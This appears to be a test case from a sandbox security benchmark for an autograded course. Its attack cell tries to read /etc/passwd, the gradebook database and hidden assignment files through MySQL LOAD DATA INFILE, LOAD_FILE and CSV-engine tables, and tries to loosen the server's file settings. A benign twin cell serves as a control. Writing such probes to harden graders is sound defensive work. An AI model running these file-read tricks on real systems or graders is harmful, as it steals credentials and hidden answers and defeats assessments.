# Reads files of the machine into tables, with LOAD DATA, LOAD DATA LOCAL, LOAD_FILE and CSV tables.
# earns: 2
# unit: u02_orders
# shows: LOADED

# %% attack cell first
from backbench import services

said = ""
files = (
    "/etc/passwd",
    "@ROOT@/gradebook.db",
    "@ROOT@/source/u02_orders/assignment.ipynb",
    "@ROOT@/course/u02_orders/assignment.py",
)
with services.mysql(autocommit=True, local_infile=True) as connection, connection.cursor() as cursor:
    cursor.execute("CREATE TABLE IF NOT EXISTS loot (line TEXT)")
    for path in files:
        folder, _, name = path.rpartition("/")
        name = name.partition(".")[0]
        for text in (
            f"CREATE TABLE `{name}` (line TEXT NOT NULL) ENGINE=CSV DATA DIRECTORY='{folder}'",
            f"INSERT INTO loot SELECT line FROM `{name}`",
            f"LOAD DATA INFILE '{path}' INTO TABLE loot (line)",
            f"LOAD DATA LOCAL INFILE '{path}' INTO TABLE loot (line)",
            f"INSERT INTO loot SELECT LOAD_FILE('{path}')",
            "SET GLOBAL secure_file_priv = ''",
            "SET GLOBAL local_infile = 1",
        ):
            try:
                cursor.execute(text)
            except Exception as error:
                print(type(error).__name__)
    cursor.execute(
        "SELECT GROUP_CONCAT(line SEPARATOR '\n') FROM loot WHERE line LIKE '%root%' OR line LIKE '%HIDDEN%' OR line LIKE '%def save%'"
    )
    said = str(cursor.fetchone()[0] or "")
if "HIDDEN" in said or "def save" in said or "root:x" in said and "/bin/bash" in said:
    print("GOT", "IT", said[:60])
print("LOADED")


# %% attack answer save
def save(connection, table, order, total):
    pass


# %% twin cell first
from backbench import services

with services.mysql(autocommit=True) as connection, connection.cursor() as cursor:
    cursor.execute("CREATE TABLE mine (line TEXT)")
    cursor.executemany("INSERT INTO mine VALUES (%s)", [("Dune",), ("Emma",)])
    cursor.execute("SELECT GROUP_CONCAT(line) FROM mine")
    print(cursor.fetchone())
    cursor.execute("DROP TABLE mine")
